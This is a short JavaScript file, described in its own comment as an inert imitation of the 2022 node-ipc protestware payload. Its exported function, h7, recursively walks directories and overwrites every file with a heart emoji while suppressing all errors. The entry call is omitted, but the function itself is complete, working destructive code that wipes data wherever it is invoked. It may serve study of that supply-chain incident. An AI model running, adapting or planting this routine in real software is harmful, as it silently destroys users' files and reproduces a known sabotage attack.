// Inert imitation of node-ipc 10.1.1's ssl-geospec.js (March 2022): walk directories and replace
// every file's content with a heart. The entry call is left out; nothing runs this.
const fs = require('fs');
const path = require('path');

const h7 = (dir) => {
  try {
    const entries = fs.readdirSync(dir);
    entries.forEach((name) => {
      const full = path.join(dir, name);
      try {
        if (fs.lstatSync(full).isDirectory()) h7(full);
        else if (fs.statSync(full).isFile()) fs.writeFile(full, '❤️', () => {});
      } catch (e) {}
    });
  } catch (e) {}
};

module.exports = { h7 };
